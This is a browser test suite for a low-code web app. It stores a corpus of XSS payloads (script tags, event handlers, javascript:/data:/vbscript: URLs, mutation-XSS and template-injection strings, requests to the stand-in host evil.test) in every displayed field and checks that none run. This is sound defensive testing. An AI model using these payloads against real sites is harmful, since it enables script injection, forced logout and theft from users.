/**
 * The XSS corpus (docs/security.md): payloads stored through the API in every place a value is shown —
 * record values in form and grid cells (Input, TextArea, Editor, CodeEditor, Hidden), Html and
 * Text columns, definition titles, labels and hints, card and tab titles, toolbar, row-action,
 * button and menu urls, select labels (hard-coded and from a model) and dual-list names — and
 * every screen that shows them visited by a signed-in user who opens the dropdowns and hovers
 * the links. Each payload, if it ever ran, would set `window.__xss` or ask http://evil.test.
 *
 * The page runs with the CSP bypassed: the policy is the second line of defence, this suite
 * proves the first (React's escaping, DOMPurify, safe-url) holds on its own. Passive pictures
 * from other hosts (grid Image cells, <img> in admin HTML) are allowed by design and are not
 * part of the corpus; everything here points at evil.test, so any request there is a hole.
 */
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_ADMIN, startDemoSuite, type DemoSuite } from '../support/demo-suite';
import { signInPage } from '../support/browser';

const MARK = (n: number) => `window.__xss=${n}`;

/** Markup payloads: each would set window.__xss or ask evil.test if it ran or loaded. */
const MARKUP = [
  `<script>${MARK(1)}</script>`,
  `<img src=x onerror="${MARK(2)}">`,
  `<svg onload="${MARK(3)}"><script>${MARK(3)}</script></svg>`,
  `"><script>${MARK(4)}</script>`,
  `'><img src=x onerror=${MARK(5)}>`,
  `<a href="javascript:${MARK(6)}">link six</a>`,
  `<a href="data:text/html,<script>parent.${MARK(7)}</script>">link seven</a>`,
  `<style>@import url(http://evil.test/8.css); body { background: url(http://evil.test/8.png) }</style>`,
  `<form action="http://evil.test/9"><input name="p" autofocus onfocus="${MARK(9)}"><button>Send</button></form>`,
  `<template><img src=x onerror="${MARK(10)}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK(11)}>"></noscript>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${MARK(12)}">`,
  `<iframe src="javascript:parent.${MARK(13)}"></iframe><iframe srcdoc="<script>parent.${MARK(13)}</script>"></iframe>`,
  `<details open ontoggle="${MARK(14)}"><summary>s</summary></details>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.test/15">`,
  `<base href="http://evil.test/16/"><link rel="stylesheet" href="http://evil.test/16.css">`,
  `<object data="data:text/html,<script>parent.${MARK(17)}</script>"></object><embed src="http://evil.test/17">`,
  `<video><source onerror="${MARK(18)}"></video><audio src=x onerror="${MARK(18)}"></audio>`,
  `<svg><a xlink:href="javascript:${MARK(19)}"><text>t</text></a><animate attributeName="href" to="javascript:${MARK(19)}"/></svg>`,
  `{{constructor.constructor('${MARK(20)}')()}}`,
  // Pictures that would act for the viewer: a GET into the API (/api/logout signs them out).
  `<img src="/api/logout" alt="a"><video poster="/api/logout"></video><svg><image href="/api/logout"></image></svg>`,
  `<div style="background-image: url('/api/logout')">styled</div><p style="background: url(/\\61pi/logout)">escaped</p>`,
];

/** Url payloads for links: schemes that run code, and ways of hiding them or leaving for another host. */
const URLS = [
  `javascript:${MARK(31)}`,
  `JaVaScRiPt:${MARK(32)}`,
  ` \tjava\nscript:${MARK(33)}`,
  `\u0001javascript:${MARK(34)}`,
  `data:text/html,<script>${MARK(35)}</script>`,
  `vbscript:msgbox(36)`,
  '//evil.test/37',
  '/\\evil.test/38',
];

const ALL_MARKUP = MARKUP.join(' ');
const FIELDS = MARKUP.map((_, i) => `p${i}`);

let suite: DemoSuite;
let userId = '';
let recordId = '';

beforeAll(async () => {
  suite = await startDemoSuite({ seed: false });
  const { call } = suite;
  await call('POST', '/api/definitions/model', { name: 'Xss', title: ALL_MARKUP, fields: FIELDS.map((name, i) => ({ name, type: 'text', label: MARKUP[i] })) });
  const field = (childType: string, name: string, i: number, extra: object = {}) => ({
    childType, width: 6, name, label: MARKUP[i], showlabelchecked: true, hint: MARKUP[(i + 1) % MARKUP.length], showhintchecked: true, ...extra,
  });
  const fieldRows = (childType: string, extra: object = {}) => [{ cols: FIELDS.map((name, i) => field(childType, name, i, extra)) }];
  const access = { groups: ['Everyone'] };
  const actions = [...URLS, ...MARKUP.slice(0, 3)].map((url, i) => ({ url, label: MARKUP[i % MARKUP.length], hint: MARKUP[(i + 2) % MARKUP.length], showhintchecked: true }));
  await call('POST', '/api/definitions/form', { name: 'xss_input', title: ALL_MARKUP, model: 'Xss', url: URLS[0], access, actions, definition: fieldRows('Input', { fieldtype: 'text' }) });
  await call('POST', '/api/definitions/form', { name: 'xss_editor', title: MARKUP[1], model: 'Xss', access, definition: fieldRows('Editor') });
  await call('POST', '/api/definitions/form', {
    name: 'xss_mixed',
    title: MARKUP[2],
    model: 'Xss',
    access,
    definition: [
      { cols: FIELDS.map((name, i) => field(i % 3 === 0 ? 'TextArea' : i % 3 === 1 ? 'CodeEditor' : 'Hidden', name, i, i % 3 === 1 ? { language: 'html' } : {})) },
      {
        cols: [
          field('Select', 'p0', 0, { selecttype: '1', keys: MARKUP.join('\n'), values: MARKUP.join('\n') }),
          field('Select', 'p1', 1, { selecttype: '2', url: '/select/xss_groups' }),
        ],
      },
    ],
  });
  const shownColumns = [
    ...MARKUP.map((html) => ({ childType: 'Html', width: 6, html })),
    ...MARKUP.map((text) => ({ childType: 'Text', width: 6, text })),
    ...[...URLS, ...MARKUP.slice(0, 2)].map((url, i) => ({ childType: 'Button', width: 3, url, label: MARKUP[i % MARKUP.length], hint: MARKUP[(i + 3) % MARKUP.length], showhintchecked: true })),
    {
      childType: 'Card', width: 12, title: ALL_MARKUP, hint: ALL_MARKUP, showhintchecked: true, collapsable: true, contenttype: 'Rows',
      rows: [{ cols: [{ childType: 'Text', width: 12, text: ALL_MARKUP }] }],
    },
    {
      childType: 'Tabs', width: 12,
      tabs: MARKUP.slice(0, 4).map((tabtitle) => ({ childType: 'Tab', tabtitle, tabcontenttype: 'Rows', rows: [{ cols: [{ childType: 'Html', width: 12, html: ALL_MARKUP }] }] })),
    },
    { childType: 'WorkFlow', width: 12, name: 'xss_menu' },
    { childType: 'Grid', width: 12, name: 'xss_grid' },
  ];
  // Where a form goes after Save or Cancel: its url.
  for (const [i, url] of URLS.entries()) {
    await call('POST', '/api/definitions/form', { name: `xss_leave${i}`, title: 'Leave', model: 'Xss', url, access, definition: [{ cols: [field('Input', 'p0', 0)] }] });
  }
  await call('POST', '/api/definitions/page', { name: 'xss_page', title: ALL_MARKUP, access, actions, definition: [{ cols: shownColumns }] });
  await call('POST', '/api/definitions/menu', {
    name: 'xss_menu',
    title: ALL_MARKUP,
    access,
    actions,
    definition: [...URLS, ...MARKUP.slice(0, 3)].map((url, i) => ({ url, title: MARKUP[i % MARKUP.length], description: MARKUP[(i + 1) % MARKUP.length], icon: MARKUP[(i + 2) % MARKUP.length] })),
  });
  await call('POST', '/api/definitions/grid', {
    name: 'xss_grid',
    title: ALL_MARKUP,
    model: 'Xss',
    access,
    paging: 1,
    pageSize: 50,
    definition: [...FIELDS.map((name, i) => ({ name, label: MARKUP[i], type: 'Text' })), { name: 'p5', label: 'Picture', type: 'Image' }],
    actions,
    rowactions: [...URLS, ':p0', ':p5', '/form/xss_input/edit/:p1', ...MARKUP.slice(0, 2)].map((url, i) => ({ url, label: MARKUP[i % MARKUP.length], hint: MARKUP[(i + 4) % MARKUP.length], showhintchecked: true })),
  });
  await call('POST', '/api/definitions/select', { name: 'xss_items', title: ALL_MARKUP, access, items: MARKUP.map((label, i) => ({ value: String(i), label })) });
  await call('POST', '/api/definitions/select', { name: 'xss_groups', title: ALL_MARKUP, access, model: 'Group', valuefield: 'id', labelfield: 'name' });
  for (const [i, name] of MARKUP.entries()) await call('POST', '/api/form/group/add', { name, description: MARKUP[(i + 1) % MARKUP.length] });

  const record: Record<string, string> = Object.fromEntries(FIELDS.map((name, i) => [name, MARKUP[i]!]));
  record.p5 = URLS[4]!; // an Image cell: a data:text/html "picture"
  recordId = String((await call<{ id: number | string }>('POST', '/api/form/xss_input/add', record)).id);
  for (const [i, url] of URLS.entries()) await call('POST', '/api/form/xss_input/add', { ...record, p0: url, p1: url, p5: i % 2 ? url : '/api/logout' });
  const users = await call<{ rows: { id: number | string; user: string }[] }>('GET', '/api/grid/users/data/0/50');
  userId = String(users.rows.find((u) => u.user === DEMO_ADMIN.user)!.id);
}, 120_000);

afterAll(async () => {
  await suite?.close();
});

interface Watch {
  page: Page;
  foreign: string[];
  dialogs: string[];
}

async function watchedPage(): Promise<Watch> {
  const context = await suite.browser.newContext({ bypassCSP: true, viewport: { width: 1400, height: 900 } });
  const page = await context.newPage();
  const own = new URL(suite.server.url).host;
  const watch: Watch = { page, foreign: [], dialogs: [] };
  page.on('request', (r) => {
    const url = new URL(r.url());
    if ((url.protocol === 'http:' || url.protocol === 'https:') && url.host !== own) watch.foreign.push(`${r.resourceType()} ${r.url()}`);
    // The app reaches its API by fetch only; a picture, a frame or a style sheet there is a payload acting for the viewer.
    else if (/^\/api(\/|$)/i.test(url.pathname) && !['fetch', 'xhr'].includes(r.resourceType())) watch.foreign.push(`${r.resourceType()} ${r.url()}`);
  });
  page.on('dialog', (d) => {
    // Leaving a form whose selects were changed asks first; that question is the app's own.
    if (d.type() === 'beforeunload') return void d.accept();
    watch.dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  await signInPage(page, suite.server.url, DEMO_ADMIN);
  return watch;
}

/**
 * What would run later or on a click: event-handler attributes, script-bearing urls, and tags the
 * sanitiser must drop, anywhere in the app's own tree.
 */
function dormantPayloads(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const root = document.getElementById('root') ?? document.body;
    for (const el of [root, ...root.querySelectorAll('*')]) {
      for (const attr of el.attributes) {
        // eslint-disable-next-line no-control-regex -- browsers ignore these inside a url's scheme
        const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (attr.name.startsWith('on')) found.push(`${el.tagName} ${attr.name}`);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'].includes(attr.name)) {
          let host = '';
          try {
            host = new URL(attr.value, location.href).hostname;
          } catch {
            // not a url at all
          }
          if (/^(javascript|vbscript|data:text|data:application)/.test(value) || host === 'evil.test') found.push(`${el.tagName} ${attr.name}=${attr.value}`);
        }
      }
    }
    for (const el of root.querySelectorAll('script, style, iframe, object, embed, base, meta, link, template, noscript')) {
      found.push(`<${el.tagName.toLowerCase()}> in the page`);
    }
    return found;
  });
}

async function expectNothingRan(watch: Watch, screen: string): Promise<void> {
  const { page } = watch;
  await page.waitForTimeout(300);
  expect(await page.evaluate(() => (window as { __xss?: unknown }).__xss), `window.__xss on ${screen}`).toBeUndefined();
  expect(watch.dialogs, `dialogs on ${screen}`).toEqual([]);
  expect(watch.foreign, `requests to other origins on ${screen}`).toEqual([]);
  expect(await dormantPayloads(page), `dormant payloads on ${screen}`).toEqual([]);
  watch.foreign.length = 0;
}

/**
 * Waits for a screen to show, but a payload that ran may have taken the page elsewhere: then
 * the checks that follow say what happened, rather than a timeout.
 */
async function shown(locator: Locator): Promise<void> {
  await locator.waitFor({ timeout: 10_000 }).catch(() => undefined);
}

/** Hovers a few links and buttons of the main area, as a user's pointer passes over them. */
async function hoverSome(page: Page): Promise<void> {
  const targets = await page.locator('main a, main button').all();
  for (const target of targets.slice(0, 8)) await target.hover({ timeout: 500 }).catch(() => undefined);
}

describe('the XSS corpus', () => {
  let watch: Watch;
  let page: Page;
  const open = (path: string) => page.goto(`${suite.server.url}${path}`);

  beforeAll(async () => {
    watch = await watchedPage();
    page = watch.page;
  });

  it('runs nothing in the grid: titles, labels, cells, pictures, toolbar and row actions', async () => {
    await open('/grid/xss_grid');
    await shown(page.locator('tbody tr').nth(URLS.length));
    // Stored and shown, as text.
    expect(await page.locator('tbody').textContent()).toContain(MARKUP[1]);
    await hoverSome(page);
    await expectNothingRan(watch, 'the grid');
  });

  it('runs nothing on the page: Html, Text, buttons, card, tabs, its menu and its grid', async () => {
    await open('/page/xss_page');
    await shown(page.getByText('link six').first());
    await shown(page.locator('tbody tr').first());
    expect(await page.locator('.tessera-text').first().textContent()).toBe(MARKUP[0]);
    for (const tab of await page.getByRole('tab').all()) await tab.click();
    await hoverSome(page);
    await expectNothingRan(watch, 'the page');
  });

  it.each(['xss_input', 'xss_editor', 'xss_mixed'])('runs nothing in form %s: values, labels, hints, selects', async (form) => {
    await open(`/form/${form}/edit/${recordId}`);
    await page.getByRole('button', { name: 'Save', exact: true }).waitFor();
    if (form === 'xss_editor') await page.locator('.ProseMirror').nth(MARKUP.length - 1).waitFor();
    if (form === 'xss_mixed') {
      await page.locator('.cm-content').first().waitFor();
      for (const select of await page.locator('main select').all()) {
        await expect.poll(() => select.locator('option').count()).toBeGreaterThan(MARKUP.length - 1);
        await select.selectOption({ index: 3 });
      }
    }
    await hoverSome(page);
    await expectNothingRan(watch, `form ${form}`);
  });

  it('leaves a form only for the app or an http(s) url, whatever its url says', async () => {
    for (const [i, url] of URLS.entries()) {
      await open(`/form/xss_leave${i}/edit/${recordId}`);
      await page.getByRole('button', { name: 'Cancel' }).click();
      await page.waitForTimeout(200);
      await expectNothingRan(watch, `Cancel on a form whose url is ${JSON.stringify(url)}`);
      expect(new URL(page.url()).host, `where Cancel went from a form whose url is ${JSON.stringify(url)}`).toBe(new URL(suite.server.url).host);
    }
  });

  it('runs nothing in the designers of those definitions', async () => {
    const designers: [string, string, string][] = [
      ['form', 'xss_mixed', 'formdesigner'],
      ['page', 'xss_page', 'pagedesigner'],
      ['grid', 'xss_grid', 'griddesigner'],
      ['menu', 'xss_menu', 'menudesigner'],
    ];
    for (const [kind, name, route] of designers) {
      const docs = await suite.call<{ id: string; name: string }[]>('GET', `/api/definitions/${kind}`);
      await open(`/${route}/edit/${docs.find((d) => d.name === name)!.id}`);
      await shown(page.getByRole('region', { name: /designer design area/ }));
      await expectNothingRan(watch, `the ${kind} designer`);
    }
  });

  it('runs nothing on the user form, whose dual list names the groups, nor in the groups list', async () => {
    await open(`/user/edit/${userId}`);
    // The list pages the groups from the server (20 at a time): every page is drawn, so every name is.
    const showMore = page.getByRole('button', { name: 'Show more' });
    await expect.poll(() => page.getByRole('option').count()).toBeGreaterThanOrEqual(Math.min(20, MARKUP.length));
    while (await showMore.isVisible()) {
      const before = await page.getByRole('option').count();
      await showMore.click();
      await expect.poll(() => page.getByRole('option').count()).toBeGreaterThan(before);
    }
    await expect.poll(() => page.getByRole('option').count()).toBeGreaterThanOrEqual(MARKUP.length);
    await page.getByRole('option').nth(2).click();
    await expectNothingRan(watch, 'the user form');
    await open('/groups');
    await page.locator('tbody tr').nth(3).waitFor();
    await expectNothingRan(watch, 'the groups list');
  });
});
